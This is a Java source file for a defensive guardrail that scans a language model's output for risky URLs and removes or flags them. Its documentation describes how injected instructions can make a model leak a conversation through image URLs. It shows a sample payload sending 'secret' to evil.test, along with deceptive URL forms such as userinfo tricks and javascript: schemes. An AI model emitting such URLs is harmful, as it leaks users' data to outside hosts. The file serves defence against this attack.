package dev.llmops4j.guardrails.check;

import dev.llmops4j.guardrails.Boundary;
import dev.llmops4j.guardrails.Finding;
import dev.llmops4j.guardrails.Guardrail;
import dev.llmops4j.guardrails.GuardrailOptions;
import dev.llmops4j.guardrails.Stage;
import dev.llmops4j.guardrails.StreamingCheck;
import dev.llmops4j.guardrails.Verdict;
import dev.llmops4j.guardrails.internal.url.UrlRules;
import dev.llmops4j.guardrails.internal.url.UrlScan;
import java.util.List;
import java.util.Objects;
import java.util.Set;

/**
 * Looks at where the URLs of an answer lead: in prose, in Markdown links, images and reference definitions, and in
 * attributes of HTML. An image is fetched as soon as an answer is shown, and what stands in its URL is then told to its
 * host: this is how injected instructions carry a conversation out. So an image may only come from an allowed host. The
 * guardrail {@code urls}, on what the model wrote, streams included. Immutable, safe for use by many threads at once.
 *
 * <pre>{@code
 * Urls.of(List.of("example.com"), List.of(), Urls.Action.REMOVE, Urls.Action.FLAG)
 * "![x](https://evil.test/?q=secret)"  becomes  "![x](about:blank)"
 * }</pre>
 *
 * <p>The kinds of findings, in the order in which they are looked for:
 *
 * <ul>
 *   <li>{@code urls.scheme}: another scheme than {@code http}, {@code https} and {@code mailto}, such as {@code javascript:}
 *       or {@code data:}, where Markdown or HTML expect a URL.
 *   <li>{@code urls.disguised_host}: a backslash, an escape or a character reference where the host stands.
 *   <li>{@code urls.userinfo}: {@code https://good.example@evil.example}.
 *   <li>{@code urls.denied_host}: the host or a domain above it is denied.
 *   <li>For hosts that are not allowed: {@code urls.ip_address}; {@code urls.lookalike_host}, a name with letters that are
 *       not ASCII, or its {@code xn--} form; {@code urls.image}; {@code urls.unlisted_host}, if hosts are allowed at all;
 *       {@code urls.data_in_link}, a query or fragment of more than 96 characters or a label of the host of more than 32.
 * </ul>
 *
 * <p>A URL that is removed is replaced by {@code about:blank}. A stream is held back from the first character of a URL to its
 * end, at most 2,048 characters; of a longer URL the rest stays, without its host. The time is linear in the text.
 *
 * <p>Limits: nothing is fetched, so a redirect on an allowed host is not seen, and neither is a host that is named without a
 * scheme in prose. The target of a reference definition ({@code [1]: https://…}) counts as an image, since an image may use
 * it. A link that a person follows can carry a little data unnoticed where no hosts are listed: list them.
 */
public final class Urls implements Guardrail {
    /** The name that prompts use. */
    public static final String NAME = "urls";

    /** What becomes of a text with a URL that is not as it should be. */
    public enum Action {
        /** {@code about:blank} stands in the place of the URL. */
        REMOVE,
        /** The text stays, and the findings are recorded. */
        FLAG,
        /** The call ends. */
        BLOCK
    }

    private static final String BLANK = "about:blank";
    private static final List<String> SCHEMES = List.of("http", "https", "mailto");

    private final UrlRules rules;
    private final Action images;
    private final Action links;

    private Urls(UrlRules rules, Action images, Action links) {
        this.rules = rules;
        this.images = Objects.requireNonNull(images, "images");
        this.links = Objects.requireNonNull(links, "links");
    }

    /**
     * Removes every image, and flags links that deceive or carry data.
     *
     * @return the guardrail
     */
    public static Urls create() {
        return of(List.of(), List.of(), Action.REMOVE, Action.FLAG);
    }

    /**
     * Reads the options {@code allow} and {@code deny}, lists of hosts; {@code schemes}, a list; {@code images}, by default
     * {@code remove}, and {@code links}, by default {@code flag}: what becomes of either.
     *
     * @param options the options
     * @return the guardrail
     */
    public static Urls create(GuardrailOptions options) {
        List<String> schemes = options.strings("schemes");
        var rules =
                new UrlRules(options.strings("allow"), options.strings("deny"), schemes.isEmpty() ? SCHEMES : schemes);
        return new Urls(rules, options.choice("images", Action.REMOVE), options.choice("links", Action.FLAG));
    }

    /**
     * Looks at images and links.
     *
     * @param allow hosts that are allowed, with their sub-domains; if there are none, links may lead anywhere, images nowhere
     * @param deny hosts that are not allowed, with their sub-domains, even below an allowed one
     * @param images what becomes of an image
     * @param links what becomes of any other URL
     * @return the guardrail
     */
    public static Urls of(List<String> allow, List<String> deny, Action images, Action links) {
        return new Urls(new UrlRules(allow, deny, SCHEMES), images, links);
    }

    @Override
    public String name() {
        return NAME;
    }

    @Override
    public Set<Stage> stages() {
        return Stage.OUTBOUND;
    }

    @Override
    public Verdict check(String text, Boundary at) {
        boolean[] wrong = {false};
        new UrlScan().readAll(text, (url, image, start, end) -> wrong[0] |= rules.judge(url, image) != null);
        return wrong[0] ? StreamingCheck.verdict(streaming(at), text) : Verdict.PASS;
    }

    @Override
    public StreamingCheck streaming(Boundary at) {
        return new Scan();
    }

    private final class Scan extends ScanReader<UrlScan.Sink> implements UrlScan.Sink {
        Scan() {
            super(new UrlScan());
        }

        @Override
        UrlScan.Sink listener() {
            return this;
        }

        @Override
        public void found(String url, boolean image, int start, int end) {
            String wrong = rules.judge(url, image);
            if (wrong == null) {
                return;
            }
            Finding finding = Finding.of(NAME + "." + wrong, start, end);
            switch (image ? images : links) {
                case REMOVE -> sink().replace(finding, BLANK);
                case FLAG -> sink().flag(finding);
                case BLOCK -> sink().block(finding);
            }
        }
    }
}
